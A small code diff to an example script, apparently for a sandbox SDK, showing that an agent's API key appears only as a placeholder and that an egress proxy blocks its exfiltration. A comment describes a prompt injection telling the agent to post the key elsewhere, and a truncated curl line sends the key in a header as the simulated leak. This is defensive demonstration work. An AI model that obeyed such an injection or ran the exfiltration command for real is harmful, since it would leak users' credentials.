@@ -25,7 +25,7 @@ await using sb = await Sandbox.create({
   labels: { example: "agent-secrets" },
 });
 
-console.log(`inside, OPENAI_API_KEY is ${await sb.sh`printenv OPENAI_API_KEY`.text()}`);
+console.log(`inside, OPENAI_API_KEY is ${(await sb.sh`printenv OPENAI_API_KEY`.text()).trimEnd()}`);
 
 // Code an agent wrote: an ordinary OpenAI call that reads the key from its environment.
 await sb.fs.writeTextFile(
@@ -39,7 +39,7 @@ const reply = await res.json();
 console.log(res.ok ? reply.choices[0].message.content : \`HTTP \${res.status}: \${JSON.stringify(reply)}\`);
 `,
 );
-const answer = await sb.sh`node chat.mjs`.text();
+const answer = (await sb.sh`node chat.mjs`.text()).trimEnd();
 console.log(`the model says: ${answer}`);
 
 // A prompt injection tells the agent to post the key elsewhere. What leaves is the placeholder, and the proxy refuses it.
@@ -47,3 +47,4 @@ const leak = await sb.sh`curl -s -o /dev/null -w '%{http_code}' -H "X-Key: $OPEN
 console.log(`exfiltration attempt answered ${leak.stdoutText}`);
 const refused = (await sb.egressLog()).find((e) => e.secret === "OPENAI_API_KEY");
 console.log(`egress log: ${refused?.reason ?? "no refusal logged"}`);
+await sb.kill(); // leaving the scope only closes the connection; this sandbox has a timeout
